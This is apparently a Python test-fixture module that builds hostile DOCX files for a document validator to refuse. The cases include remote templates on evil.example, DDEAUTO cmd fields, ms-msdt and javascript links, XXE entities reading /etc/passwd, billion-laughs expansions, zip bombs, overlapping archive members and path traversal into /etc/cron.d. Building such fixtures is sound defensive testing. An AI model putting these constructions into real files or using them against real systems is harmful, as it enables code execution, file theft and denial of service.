"""Hostile DOCX files: (name, how it is made, the reason for which it must be refused)."""

# ruff: noqa: E501 -- one case, one line

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

from .builders import MAIN_TYPE, PACKAGE, REL, W, docx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %b "%b">' % (bytes([98 + n]), b"&%b;" % bytes([97 + n]) * 10) for n in range(9)
    ) + b"]><l>&j;</l>"
)  # fmt: skip
OUTSIDE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
PROGRAM = b"MZ\x90\x00" + b"\0" * 64


def relation(kind: str, target: str, *, external: bool = True, base: str = REL) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r9" Type="{base}/{kind}" Target="{target}"{mode}/>'


def settings(kind: str, target: str) -> dict[str, bytes]:
    rels = f'<Relationships xmlns="{PACKAGE}/relationships">{relation(kind, target)}</Relationships>'
    return {"word/settings.xml": b"<s/>", "word/_rels/settings.xml.rels": rels.encode()}


BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)  # fmt: skip


def run(code_text: str) -> str:
    return f"<w:r><w:instrText>{code_text}</w:instrText></w:r>"


def code(*pieces: str) -> str:
    """Runs with a field whose code lies in these pieces."""
    return BEGIN + "".join(map(run, pieces)) + END


def line(*runs: str) -> str:
    return f"<w:p>{''.join(runs)}</w:p>"


def packed(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    out = io.BytesIO(docx())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def _link() -> bytes:
    info = zipfile.ZipInfo("word/media/a.png")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return packed([(info, b"/etc/passwd")])


def _nul_name() -> bytes:
    return packed([("word/aXevil.xml", b"<a/>")]).replace(b"word/aXevil.xml", b"word/a\0evil.xml")


def _second_name() -> bytes:
    info = zipfile.ZipInfo("word/a.xml")
    other = b"word/vbaProject.bin"
    info.extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(b"word/a.xml")) + other
    return packed([(info, b"<a/>")])


def _encrypted_member() -> bytes:
    data = bytearray(docx())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _rebuilt(change: Callable[[bytes, bytes, bytes], tuple[bytes, bytes, int]]) -> bytes:
    """The archive with other members, directory and count, and an end record that fits them."""
    data = docx()
    end = data.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", data, end + 12)
    members, directory, count = change(data[:start], data[start : start + size], data[end:])
    return (
        members + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(members), 0)
    )


def _overlapping() -> bytes:
    """Sixty members, each of which holds all the following ones, down to one megabyte that they share."""
    plain = b"\0" * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    shared = packer.compress(plain) + packer.flush()

    def change(members: bytes, directory: bytes, end: bytes) -> tuple[bytes, bytes, int]:
        entries, lengths = [], []
        packed_data, content = shared, plain
        for number in range(60):
            name = b"word/media/%02d.bmp" % number
            sizes = (zlib.crc32(content), len(packed_data), len(content))
            header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, *sizes, len(name), 0) + name
            lengths.append(len(header) + len(packed_data))
            entries.append((name, sizes))
            quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
            packed_data, content, last = quote + packed_data, header + content, header + packed_data
        total = lengths[-1]
        for (name, sizes), length in zip(entries, lengths, strict=True):
            where = len(members) + total - length
            fixed = (0x02014B50, 20, 20, 0, 8, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, where)
            directory += struct.pack("<IHHHHHHIIIHHHHHII", *fixed) + name
        return members + last, directory, 64

    return _rebuilt(change)


def _gap() -> bytes:
    """A member between the others that the directory does not know."""

    def change(members: bytes, directory: bytes, end: bytes) -> tuple[bytes, bytes, int]:
        hidden = (
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(b"MZ"), 2, 2, 5, 0) + b"a.exe" + b"MZ"
        )
        return members + hidden, directory, 4

    return _rebuilt(change)


def _other_local_name() -> bytes:
    return docx().replace(b"word/document.xml", b"word/vbaProj.docm", 1)


def _nested_bomb() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<w>" + b" " * (200 << 20) + b"</w>")
    return docx({"word/embeddings/a.xlsx": inner.getvalue()})


def _workbook(**more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("xl/workbook.xml", b"<w/>")
        for name, data in more.items():
            archive.writestr(name, data)
    return docx({"word/embeddings/a.xlsx": out.getvalue()})


def _wrong_crc() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return out.getvalue().replace(b"budget", b"BUDGET")


def _any_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return out.getvalue()


def _typed(part: str, content_type: str) -> dict[str, bytes]:
    """Parts in which `part` is declared to be of that type."""
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        f'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
        f'"/word/document.xml" ContentType="{MAIN_TYPE}"/><Override PartName="{part}" ContentType="{content_type}"/></Types>'
    )
    return {"[Content_Types].xml": types.encode()}


STRICT = line(code("DDEAUTO cmd")).replace("<w:p>", '<w:p xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main">')

DOCUMENTS: list[tuple[str, Callable[[], bytes], str]] = [
    ("macros", lambda: docx({"word/vbaProject.bin": b"x"}), "active_content"),
    ("macros under another name", lambda: docx(_typed("/word/a.bin", "application/vnd.ms-office.vbaProject") | {"word/a.png": b"x"}), "active_content"),
    ("macros by relation", lambda: docx({"word/a.xml": b"<a/>"}, relations=relation("vbaProject", "a.xml", external=False, base="http://schemas.microsoft.com/office/2006/relationships")), "active_content"),
    ("docm renamed", lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "active_content"),
    ("macros behind an escaped name", lambda: docx({"word/%76baProject.xml": b"<a/>"}), "active_content"),
    ("ribbon with callbacks", lambda: docx({"customUI/customUI.xml": b'<customUI onLoad="x"/>'}), "active_content"),
    ("activex", lambda: docx({"word/activeX/activeX1.xml": b"<a/>"}), "active_content"),
    ("remote template", lambda: docx(settings("attachedTemplate", "https://evil.example/t.dotm")), "active_content"),
    ("template on a share", lambda: docx(settings("attachedTemplate", "file:////evil.example/t.dotm")), "active_content"),
    ("template on a share, escaped", lambda: docx(settings("attachedTemplate", "file:///%5C%5Cevil.example%5Ct.dotm")), "active_content"),
    ("template that claims to be inside", lambda: docx({"word/_rels/settings.xml.rels": f"<R>{relation('attachedTemplate', 'https://evil.example/t.dotm', external=False)}</R>".encode()}), "active_content"),
    ("remote frame", lambda: docx(relations=relation("frame", "https://evil.example/")), "active_content"),
    ("remote object", lambda: docx(relations=relation("oleObject", "https://evil.example/x.html!")), "active_content"),
    ("picture on a share", lambda: docx(relations=relation("image", r"\\evil.example\a.png")), "active_content"),
    ("script link", lambda: docx(relations=relation("hyperlink", "java&#9;script:alert(1)")), "active_content"),
    ("diagnostic tool link", lambda: docx(relations=relation("hyperlink", "ms-msdt:/id PCWDiagnostic")), "active_content"),
    ("link to a program", lambda: docx(relations=relation("hyperlink", "file:///C:/Windows/System32/cmd.exe")), "active_content"),
    ("web page as a chunk", lambda: docx({"word/a.xml": b"<a/>"}, relations=relation("aFChunk", "a.xml", external=False)), "active_content"),
    ("ole object", lambda: docx({"word/embeddings/oleObject1.bin": OLE}), "active_content"),
    ("ole object as a picture", lambda: docx({"word/media/image1.png": OLE}), "active_content"),
    ("program as a picture", lambda: docx({"word/media/image1.png": PROGRAM}), "active_content"),
    ("program", lambda: docx({"word/media/setup.exe": PROGRAM}), "active_content"),
    ("script of unknown kind", lambda: docx({"word/run.wsf": b"<job/>"}), "active_content"),
    ("document in the document", lambda: docx({"word/embeddings/a.docx": docx()}), "active_content"),
    ("workbook with macros", lambda: _workbook(**{"xl/vbaProject.bin": b"x"}), "active_content"),
    ("workbook that is any zip", lambda: docx({"word/embeddings/a.xlsx": docx()}), "active_content"),
    ("picture with a script", lambda: docx({"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'}), "active_content"),
    ("dde", lambda: docx(body=line(code("DDEAUTO c:\\cmd.exe"))), "active_content"),
    ("dde in pieces", lambda: docx(body=line(code("D", "DE", "AUTO cmd"))), "active_content"),
    ("dde as the second field of a line", lambda: docx(body=line(code(" PAGE "), code("DDE cmd"))), "active_content"),
    ("dde over two lines", lambda: docx(body=line(BEGIN, run("DD")) + line(run("E cmd"), END)), "active_content"),
    ("dde behind blanks without end", lambda: docx(body=line(code(" " * 3_000_000, "DDE cmd"))), "active_content"),
    ("dde in a simple field", lambda: docx(body='<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>'), "active_content"),
    ("dde in a footnote", lambda: docx({"word/footnotes.xml": f'<w:footnotes xmlns:w="{W}"><w:p>{code("DDE cmd x")}</w:p></w:footnotes>'.encode()}), "active_content"),
    ("dde in a part of another folder", lambda: docx({"other/header.xml": f'<w:hdr xmlns:w="{W}">{code("DDE cmd x")}</w:hdr>'.encode()}), "active_content"),
    ("dde in a strict document", lambda: docx(body=STRICT), "active_content"),
    ("dde without a field's marks", lambda: docx(body="<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"), "active_content"),
    ("dde made by an inner field", lambda: docx(body=line(BEGIN, BEGIN, run("QUOTE"), SEPARATE, "<w:r><w:t>DDE</w:t></w:r>", END, run(" cmd"), END)), "active_content"),
    ("text from a share", lambda: docx(body=line(code('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'))), "active_content"),
    ("picture field on a share", lambda: docx(body=line(code('INCLUDEPICTURE "\\\\\\\\evil\\\\a.png"'))), "active_content"),
    ("part of a kind we would not read", lambda: docx(_typed("/word/a.png", "application/vnd.x.footnotes+xml") | {"word/a.png": b"<a/>"}), "malformed_file"),
    ("two types for one part", lambda: docx({"[Content_Types].xml": _typed("/word/Document.xml", "application/xml")["[Content_Types].xml"]}), "malformed_file"),
    ("billion laughs in the text", lambda: docx({"word/document.xml": LAUGHS}), "malformed_file"),
    ("billion laughs in the types", lambda: docx({"[Content_Types].xml": LAUGHS}), "malformed_file"),
    ("billion laughs in a relation", lambda: docx({"word/_rels/a.xml.rels": LAUGHS}), "malformed_file"),
    ("billion laughs in the properties", lambda: docx({"docProps/core.xml": LAUGHS}), "malformed_file"),
    ("billion laughs in a picture", lambda: docx({"word/media/a.svg": LAUGHS}), "malformed_file"),
    ("entity from outside", lambda: docx({"word/footnotes.xml": OUTSIDE}), "malformed_file"),
    ("entity from outside in custom data", lambda: docx({"customXml/item1.xml": OUTSIDE}), "malformed_file"),
    ("nested without end", lambda: docx({"word/document.xml": b"<a>" * 200_000}), "malformed_file"),
    ("fields within fields", lambda: docx(body='<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 5000), "malformed_file"),
    ("high ratio", lambda: docx({"word/media/big.bmp": b"\0" * (40 << 20)}), "malformed_file"),
    ("high ratio in xml", lambda: docx({"word/a.xml": b"<a>" + b" " * (70 << 20) + b"</a>"}), "malformed_file"),
    ("many small bombs", lambda: docx({f"word/media/{n}.bmp": b"\0" * (4 << 20) for n in range(70)}), "malformed_file"),
    ("bomb in a workbook", _nested_bomb, "malformed_file"),
    ("many members", lambda: docx({f"word/{n}.xml": b"" for n in range(6000)}), "malformed_file"),
    ("overlapping members", _overlapping, "malformed_file"),
    ("member that the directory does not know", _gap, "malformed_file"),
    ("member of two names", _other_local_name, "malformed_file"),
    ("member with a second name", _second_name, "malformed_file"),
    ("path upwards", lambda: packed([("../../etc/cron.d/a.xml", b"<a/>")]), "malformed_file"),
    ("path upwards, escaped", lambda: packed([("word/%2e%2e/%2e%2e/a.xml", b"<a/>")]), "malformed_file"),
    ("absolute path", lambda: packed([("/etc/a.xml", b"<a/>")]), "malformed_file"),
    ("path of windows", lambda: packed([("C:\\a.xml", b"<a/>")]), "malformed_file"),
    ("name with a nul", _nul_name, "malformed_file"),
    ("name that reads backwards", lambda: packed([("word/\u202elmx.exe.xml", b"<a/>")]), "malformed_file"),
    ("same part twice", lambda: packed([("word/document.xml", b"<a/>")]), "malformed_file"),
    ("same part in other letters", lambda: packed([("Word/Document.XML", b"<a/>")]), "malformed_file"),
    ("symbolic link", _link, "malformed_file"),
    ("wrong crc", _wrong_crc, "malformed_file"),
    ("cut short", lambda: docx()[:-60], "malformed_file"),
    ("tail", lambda: docx() + b"tail", "malformed_file"),
    ("prefix", lambda: docx(before=b"PK\x03\x04 not an archive"), "malformed_file"),
    ("any zip", _any_zip, "malformed_file"),
    ("spreadsheet", lambda: docx(main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "mismatched_signature"),
    ("old doc", lambda: OLE + "WordDocument".encode("utf-16-le"), "mismatched_signature"),
    ("password", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted_file"),
    ("password on the archive", _encrypted_member, "encrypted_file"),
]  # fmt: skip
